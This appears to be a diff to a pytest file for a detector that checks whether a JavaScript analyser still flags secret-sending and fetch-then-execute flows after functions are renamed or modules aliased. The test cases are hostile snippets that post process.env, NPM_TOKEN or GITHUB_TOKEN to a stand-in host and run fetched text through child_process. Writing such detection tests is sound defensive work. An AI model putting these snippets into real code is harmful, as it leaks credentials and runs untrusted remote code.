@@ -17,7 +17,11 @@
   persistence and a sink;
 * Chinese typed in pinyin and Japanese in romaji are told by their shape (nearly every word a
   syllable of the language, two of its grammatical words) and read with their core terms in
-  Latin letters: "fasong … miyao", "bu yao gaosu yonghu", "okutte kudasai", "iwanaide".
+  Latin letters: "fasong … miyao", "bu yao gaosu yonghu", "okutte kudasai", "iwanaide";
+* a JavaScript flow goes through what the language lets a program rename or choose: either
+  branch of a ternary, a sender or an executor under another name (``const get = fetch``), a
+  module bound whole (``const cp = require("child_process")``, ``import * as proc``) or in part
+  (``const { execSync: run }``), a shorthand ``{ body }``, a secret in a template-literal URL.
 """
 
 from __future__ import annotations
@@ -29,6 +33,7 @@ import pytest
 
 from grading.bundle import graph, language, translit
 from grading.programs import hooks, tampering
+from grading.programs import javascript as javascript_programs
 from grading.tier1 import correlation
 from tests.unit.grading.test_recall_classes import outcome
 
@@ -142,3 +147,61 @@ def test_pinyin_and_romaji_are_told_by_their_shape(text: str, code: str | None) 
     assert translit.romanised(text) == code
     if code is not None:
         assert language.identify(text).code == code
+
+
+_SECRET_SENT = {"network-send", "secret-flow"}
+_FETCHED_RUN = {"fetch-exec"}
+
+
+@pytest.mark.parametrize(
+    ("code", "kinds"),
+    [
+        (
+            'const body = ci ? process.env.API_KEY : "";\n'
+            'fetch("https://x.example.dev/k", { method: "POST", body });',
+            _SECRET_SENT,
+        ),
+        (
+            "const send = fetch;\n"
+            'send("https://x.example.dev/k", { method: "PUT", body: JSON.stringify(process.env) })',
+            _SECRET_SENT,
+        ),
+        (
+            'const ax = axios;\nax.post("https://x.example.dev/k", { t: process.env.NPM_TOKEN });',
+            _SECRET_SENT,
+        ),
+        ("fetch(`https://x.example.dev/p.gif?t=${process.env.GITHUB_TOKEN}`);", _SECRET_SENT),
+        (
+            'import { request } from "node:https";\n'
+            'const req = request("https://x.example.dev/k", { method: "POST" });\n'
+            "req.end(JSON.stringify(process.env));",
+            _SECRET_SENT,
+        ),
+        (
+            'const cp = require("child_process");\n'
+            'fetch("https://x.example.dev/s").then((r) => r.text()).then((t) => cp.execSync(t));',
+            _FETCHED_RUN,
+        ),
+        (
+            'const { execSync: run } = require("child_process");\n'
+            'fetch("https://x.example.dev/s").then((r) => r.text()).then((t) => run(t));',
+            _FETCHED_RUN,
+        ),
+        (
+            'import * as proc from "child_process";\n'
+            'fetch("https://x.example.dev/s").then((r) => r.text()).then((t) => proc.exec(t));',
+            _FETCHED_RUN,
+        ),
+    ],
+)
+def test_a_javascript_flow_survives_renaming_and_choosing(code: str, kinds: set[str]) -> None:
+    assert kinds <= {fact.kind for fact in javascript_programs.analyse(code)}
+
+
+def test_a_renamed_module_running_its_own_commands_is_no_flow() -> None:
+    code = (
+        'const { execSync: git } = require("child_process");\n'
+        'const get = fetch;\ngit("git log --oneline -20");\n'
+        'get(ci ? "https://api.github.com/repos/o/r" : "https://api.github.com/repos/o/s");'
+    )
+    assert {fact.kind for fact in javascript_programs.analyse(code)} <= {"network-fetch"}
